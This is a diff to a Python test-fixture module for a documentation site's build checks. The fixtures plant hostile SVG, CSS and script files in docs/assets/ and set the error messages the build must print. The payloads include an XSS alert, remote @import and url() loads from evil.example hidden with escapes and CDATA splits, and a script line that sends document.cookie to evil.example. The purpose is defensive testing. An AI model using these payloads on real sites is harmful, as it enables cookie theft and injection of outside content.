@@ -1,14 +1,13 @@
-"""Editor mistakes (and attacks) in docs/assets/: what the site publishes from there.
+"""Editor mistakes (and attacks) in docs/assets/: what the site publishes from there (images only).
 
 Each `make(docs)` makes one mistake in a copy's docs/, found by the folder's
-contents (the stylesheet, an image the site has), never by today's wording, and
+contents (an image the site has), never by today's wording, and
 returns the exact lines the build must print. tests/test_editor_errors.py adds
 them to its MISTAKES, and CONTRIBUTING.md's table must explain each message.
 """
 
 from __future__ import annotations
 
-import os
 from collections.abc import Callable
 from pathlib import Path
 
@@ -16,8 +15,8 @@ Make = Callable[[Path], list[str]]
 
 ATTACK = '<script>alert(document.domain)</script><img src="https://evil.example/x.png">'
 ASSET_TYPES = (
-    "only images (.png, .jpg, .jpeg, .gif, .webp, .avif, .svg, .ico), stylesheets (.css) and scripts (.js) "
-    "belong there. Move this file out of docs/ or delete it."
+    "only images (.png, .jpg, .jpeg, .gif, .webp, .avif, .svg, .ico) belong there. Move this file out of "
+    "docs/ or delete it."
 )
 SVG_FIX = "Export the drawing again as a plain SVG (in Inkscape: Save As, Optimized SVG or Plain SVG)."
 NO_CSS = (
@@ -53,11 +52,12 @@ def web_pages_in_assets(docs: Path) -> list[str]:
     ]
 
 
-def svg_lines(*lines: str) -> Callable[[Path], Path]:
-    """A drawing docs/assets/carte.svg: its first line opens it, then `lines`, then a shape and its end."""
+def svg_lines(name: str, *lines: str) -> Callable[[Path], Path]:
+    """A drawing docs/assets/<name>: its first line opens it, then `lines`, then a shape and its end
+    (each mistake's drawing has a name of its own, so that they can share a build)."""
 
     def write(docs: Path) -> Path:
-        path = docs / "assets" / "carte.svg"
+        path = docs / "assets" / name
         path.write_text(
             "\n".join([SVG_START, *lines, '<rect width="8" height="8" fill="#1a3668"/>', "</svg>", ""]),
             encoding="utf-8",
@@ -68,7 +68,7 @@ def svg_lines(*lines: str) -> Callable[[Path], Path]:
 
 
 def svg_processing_instruction(docs: Path) -> list[str]:
-    path = docs / "assets" / "carte.svg"
+    path = docs / "assets" / "carte-instruction.svg"
     path.write_text(
         '<?xml version="1.0" encoding="UTF-8"?>\n'
         '<?xml-stylesheet href="https://evil.example/x.css"?>\n'
@@ -76,7 +76,8 @@ def svg_processing_instruction(docs: Path) -> list[str]:
         encoding="utf-8",
     )
     return [
-        "docs/assets/carte.svg:2: this SVG file has a processing instruction `<?xml-stylesheet …?>`, which "
+        "docs/assets/carte-instruction.svg:2: this SVG file has a processing instruction "
+        "`<?xml-stylesheet …?>`, which "
         f"can load a stylesheet. {SVG_FIX}"
     ]
 
@@ -85,6 +86,7 @@ def svg_style_elements(docs: Path) -> list[str]:
     """CSS, however written: an `@import`, and what a list of what to refuse would miss (text in
     pieces, an address over lines, no `url(`)."""
     svg_lines(
+        "carte-style.svg",
         "<style>@import url(https://evil.example/x.css);</style>",
         '<style>@imp<![CDATA[]]>ort "https://evil.example/a.css";</style>',
         "<style>rect { fill: url(",
@@ -92,60 +94,44 @@ def svg_style_elements(docs: Path) -> list[str]:
         ") }</style>",
         '<style>rect { fill: image-set("https://evil.example/c.png" 1x) }</style>',
     )(docs)
-    return [f"docs/assets/carte.svg:{line}: {STYLE_ELEMENT}" for line in (2, 3, 4, 7)]
+    return [f"docs/assets/carte-style.svg:{line}: {STYLE_ELEMENT}" for line in (2, 3, 4, 7)]
 
 
 def svg_style_attribute(docs: Path) -> list[str]:
-    svg_lines('<rect width="4" height="4" style="fill:u\\72l(https://evil.example/d.svg#x)"/>')(docs)
-    return [f"docs/assets/carte.svg:2: this SVG file has a `style` attribute on `<rect>`: {NO_CSS}"]
+    svg_lines(
+        "carte-style-attribute.svg",
+        '<rect width="4" height="4" style="fill:u\\72l(https://evil.example/d.svg#x)"/>',
+    )(docs)
+    return [
+        f"docs/assets/carte-style-attribute.svg:2: this SVG file has a `style` attribute on `<rect>`: "
+        f"{NO_CSS}"
+    ]
 
 
 def svg_attribute_addresses(docs: Path) -> list[str]:
     """Presentation attributes are read as CSS: an escaped `url(`, an image-set, are addresses too;
     a part of the same drawing is not refused."""
     svg_lines(
+        "carte-addresses.svg",
         '<defs><linearGradient id="g"/></defs><rect width="4" height="4" fill="url(#g)"/>',
         '<rect width="4" height="4" fill="u\\72l(https://evil.example/d.svg#x)"/>',
         '<rect width="4" height="4" mask="image-set(&quot;https://evil.example/c.png&quot; 1x)"/>',
     )(docs)
     return [
-        f"docs/assets/carte.svg:3: {svg_refers('https://evil.example/d.svg#x')}",
-        f"docs/assets/carte.svg:4: {svg_refers('https://evil.example/c.png')}",
+        f"docs/assets/carte-addresses.svg:3: {svg_refers('https://evil.example/d.svg#x')}",
+        f"docs/assets/carte-addresses.svg:4: {svg_refers('https://evil.example/c.png')}",
     ]
 
 
-def stylesheet_loads(address: str) -> str:
-    return (
-        f"the stylesheet loads `{address}`, which is not a file of this site: a stylesheet loads only files "
-        "of docs/, by their path from it (`../images/name.png`). Save the file in docs/assets/ and write "
-        "its path."
+def code_in_assets(docs: Path) -> list[str]:
+    """A stylesheet and a script saved in docs/assets/: pages could load them (the site's own are the
+    theme's, in overrides/assets/), so they are refused, named, as any other type but images."""
+    (docs / "assets" / "stylesheets").mkdir(parents=True, exist_ok=True)
+    (docs / "assets" / "stylesheets" / "extra.css").write_text(
+        "@import url(https://evil.example/x.css);\n", encoding="utf-8"
     )
-
-
-def stylesheet_from_elsewhere(docs: Path) -> list[str]:
-    """The site's stylesheet, loaded by every page, made to fetch from another host; a file of the
-    site, by its path, is not refused."""
-    stylesheet = next(path for path in sorted((docs / "assets").rglob("*")) if path.suffix == ".css")
-    image = next(path for path in sorted((docs / "assets").rglob("*")) if path.suffix == ".svg")
-    own = Path(os.path.relpath(image, stylesheet.parent)).as_posix()
-    text = stylesheet.read_text(encoding="utf-8")
-    first = text.count("\n") + 1 + (not text.endswith("\n"))
-    added = [
-        "@import url(https://evil.example/x.css);",
-        f".md-header {{ background: url({own}) }}",
-        ".md-footer { background: url(//evil.example/x.png) }",
-        ".md-main { background: u\\72l(https://evil.example/d.png) }",
-        '.md-tabs { background: image-set("https://evil.example/c.png" 1x) }',
-    ]
-    stylesheet.write_text(text + ("" if text.endswith("\n") else "\n") + "\n".join(added) + "\n", "utf-8")
-    where = f"docs/{stylesheet.relative_to(docs).as_posix()}"
-    return [
-        f"{where}:{first}: the stylesheet has an `@import`, which loads another stylesheet, from wherever it "
-        "points. Write its rules in this file instead.",
-        f"{where}:{first + 2}: {stylesheet_loads('//evil.example/x.png')}",
-        f"{where}:{first + 3}: {stylesheet_loads('https://evil.example/d.png')}",
-        f"{where}:{first + 4}: {stylesheet_loads('https://evil.example/c.png')}",
-    ]
+    (docs / "assets" / "suivi.JS").write_text("fetch('https://evil.example/?' + document.cookie)\n", "utf-8")
+    return [not_published("assets/stylesheets/extra.css", ".css"), not_published("assets/suivi.JS", ".js")]
 
 
 ASSETS_MISTAKES: list[tuple[str, Make]] = [
@@ -154,5 +140,5 @@ ASSETS_MISTAKES: list[tuple[str, Make]] = [
     ("SVG asset with CSS in style elements", svg_style_elements),
     ("SVG asset with a style attribute", svg_style_attribute),
     ("SVG asset with addresses in presentation attributes", svg_attribute_addresses),
-    ("stylesheet loading files from another site", stylesheet_from_elsewhere),
+    ("a stylesheet and a script in docs/assets/", code_in_assets),
 ]
